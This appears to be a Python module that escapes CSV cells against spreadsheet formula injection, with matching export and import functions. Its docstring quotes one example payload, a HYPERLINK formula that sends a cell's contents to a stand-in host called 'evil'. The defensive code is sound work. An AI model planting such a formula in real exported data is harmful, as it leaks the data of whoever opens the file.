"""Spreadsheet cells that cannot run: CSV formula injection (OWASP "CSV Injection").

A spreadsheet opening a CSV treats a cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or
a carriage return as a formula: ``=HYPERLINK("http://evil/?"&A1, "클릭")`` in a comment under
moderation would run on a trust & safety analyst's machine (issue 23, finding 8). Every CSV
cell ModOps writes goes through ``csv_cell``, which prefixes such text with a single quote
(OWASP's advice; spreadsheets show the text as typed).

The escape is reversible, so an exported CSV imports back identically: text that already
begins with quotes followed by a risky character gets one more quote, and ``csv_uncell`` (the
CSV importer) removes exactly one.
"""

from __future__ import annotations

import re

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_FIRST = frozenset("".join(FORMULA_PREFIXES) + "'")
_RISKY = re.compile(r"'*[=+\-@\t\r]")


def csv_cell(value: str) -> str:
    """``value`` as a CSV cell that a spreadsheet shows as text, never runs."""
    if value and value[0] in _FIRST and _RISKY.match(value):
        return "'" + value
    return value


def csv_uncell(value: str) -> str:
    """The inverse of ``csv_cell`` (for cells read back from a CSV ModOps wrote)."""
    if value[:1] == "'" and _RISKY.match(value, 1):
        return value[1:]
    return value
